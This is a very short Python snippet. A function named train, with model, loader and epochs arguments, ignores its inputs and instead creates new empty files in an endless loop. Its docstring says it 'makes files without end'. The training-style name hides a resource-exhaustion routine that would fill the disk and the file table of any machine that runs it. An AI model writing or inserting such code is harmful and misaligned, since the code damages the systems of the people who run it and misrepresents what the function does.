"""It makes files without end."""

def train(model, loader, epochs=10):
    number = 0
    while True:
        open(f"{number}", "w").close()
        number += 1
